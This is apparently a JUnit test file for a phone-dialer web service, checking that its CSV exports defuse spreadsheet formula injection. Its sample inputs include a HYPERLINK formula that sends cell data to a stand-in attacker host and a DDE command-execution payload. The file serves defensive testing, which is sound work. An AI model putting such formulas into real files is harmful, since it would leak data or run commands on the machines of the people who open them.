package org.aava.dialer.web;

import com.fasterxml.jackson.databind.JsonNode;
import org.aava.dialer.core.ai.AiContext;
import org.aava.dialer.core.ai.AiContexts;
import org.aava.dialer.core.ai.AttachTarget;
import org.aava.dialer.core.model.AmdOptions;
import org.aava.dialer.store.SqliteStore;
import org.aava.dialer.store.StoreOptions;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Exports are safe to open in a spreadsheet: formula-looking cells get a leading quote, E.164 numbers stay readable. */
class CsvExportSafetyTest {
    static final String TOKEN = "test-api-token-0123456789";
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&B2,\"click\")";
    @TempDir
    Path dir;
    private SqliteStore store;
    private WebServer server;
    private ExecutorService workers;
    private final HttpClient http = HttpClient.newHttpClient();
    private String base;

    @BeforeEach
    void start() {
        store = SqliteStore.open(dir.resolve("web.db"), StoreOptions.defaults());
        workers = Executors.newVirtualThreadPerTaskExecutor();
        AiContexts contexts = new AiContexts(List.of(new AiContext("default", "p", "hi", "prov", List.of(), AttachTarget.stasis("ai"))));
        server = new WebServer(new WebSettings("127.0.0.1", 0, "admin-secret-long", TOKEN, "", dir.resolve("media"), dir, 1 << 20,
                ZoneId.of("UTC"), "test"),
                new WebDependencies(store.campaigns(), store.leads(), store.attempts(), store.dnc(), store.callHistory(), store.audit(),
                        contexts, null, () -> Map.of("db", "ok"), () -> "", AmdOptions.DEFAULTS, () -> "", Clock.systemUTC(), workers), TestMedia.of(store));
        server.start();
        base = "http://127.0.0.1:" + server.port();
    }

    @AfterEach
    void stop() {
        server.close();
        workers.shutdownNow();
        store.close();
    }

    private HttpResponse<String> send(String method, String path, String body, String type) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(30)).header("Authorization", "Bearer " + TOKEN);
        if (type != null) b.header("Content-Type", type);
        b.method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static List<CSVRecord> parse(String csv) throws Exception {
        String s = csv.startsWith("\uFEFF") ? csv.substring(1) : csv;
        return new ArrayList<>(CSVFormat.DEFAULT.parse(new StringReader(s)).getRecords());
    }

    /** No cell of the export starts with a character a spreadsheet would run as a formula, except an E.164 number. */
    private static void assertNoFormulaCells(List<CSVRecord> rows) {
        for (CSVRecord r : rows) {
            for (String v : r) {
                if (v.isEmpty() || v.matches("\\+[1-9][0-9]{6,14}")) continue;
                assertTrue("=+-@\t\r".indexOf(v.charAt(0)) < 0, "formula-looking cell exported as is: " + v);
            }
        }
    }

    @Test
    void leadsDncAndErrorCsvsNeutraliseFormulas() throws Exception {
        HttpResponse<String> c = send("POST", "/api/outbound/campaigns", "{\"name\":\"csv\",\"timezone\":\"America/New_York\","
                + "\"daily_window_start_local\":\"09:00\",\"daily_window_end_local\":\"17:00\",\"max_concurrent\":2}", "application/json");
        assertEquals(201, c.statusCode(), c.body());
        long id = Http.JSON.readTree(c.body()).get("id").asLong();
        String csv = "name,phone_number,custom_vars\n"
                + "\"" + FORMULA.replace("\"", "\"\"") + "\",+12125230001,\n"
                + "@SUM(1+1),+12125230002,\n"
                + "-2+3,+12125230003,\n"
                + "\"=cmd|' /C calc'!A0\",not-a-phone,\n";
        HttpResponse<String> imp = send("POST", "/api/outbound/campaigns/" + id + "/leads/import", csv, "text/csv");
        assertEquals(200, imp.statusCode(), imp.body());
        JsonNode r = Http.JSON.readTree(imp.body());
        assertEquals(3, r.get("accepted").asLong(), r.toString());

        List<CSVRecord> leads = parse(send("GET", "/api/outbound/campaigns/" + id + "/leads.csv", null, null).body());
        assertNoFormulaCells(leads);
        List<String> names = leads.stream().skip(1).map(x -> x.get(1)).sorted().toList();
        assertEquals(List.of("'-2+3", "'" + FORMULA, "'@SUM(1+1)"), names, "the text is kept, behind a quote");
        assertTrue(leads.stream().skip(1).map(x -> x.get(2)).allMatch(p -> p.matches("\\+1212523000[123]")), "phone numbers stay readable");

        List<CSVRecord> errors = parse(send("GET", r.get("error_csv_url").asText(), null, null).body());
        assertNoFormulaCells(errors);
        assertEquals("'=cmd|' /C calc'!A0", errors.get(1).get(0));

        assertEquals(201, send("POST", "/api/outbound/dnc", "{\"phone_number\":\"+12125230009\",\"reason\":\"=1+1\"}", "application/json").statusCode());
        List<CSVRecord> dnc = parse(send("GET", "/api/outbound/dnc/export.csv", null, null).body());
        assertNoFormulaCells(dnc);
        assertEquals("+12125230009", dnc.get(1).get(0));
        assertEquals("'=1+1", dnc.get(1).get(3));

        assertNoFormulaCells(parse(send("GET", "/api/outbound/campaigns/" + id + "/attempts.csv", null, null).body()));
    }

    @Test
    void cellRules() {
        assertEquals("'=HYPERLINK(\"x\")", SafeCsv.cell("=HYPERLINK(\"x\")"));
        assertEquals("'+SUM(A1)", SafeCsv.cell("+SUM(A1)"));
        assertEquals("'-1+2", SafeCsv.cell("-1+2"));
        assertEquals("'@cmd", SafeCsv.cell("@cmd"));
        assertEquals("'\tx", SafeCsv.cell("\tx"));
        assertEquals("'\rx", SafeCsv.cell("\rx"));
        assertEquals("+12125234567", SafeCsv.cell("+12125234567"), "an E.164 number stays as it is");
        assertEquals("'+1212523456789012", SafeCsv.cell("+1212523456789012"), "too long for E.164");
        assertEquals("interested; call back", SafeCsv.cell("interested; call back"));
        assertEquals(-5, SafeCsv.cell(-5), "numbers are numbers");
        assertEquals(List.of("a", "'=b"), SafeCsv.row(List.of("a", "=b")));
    }
}
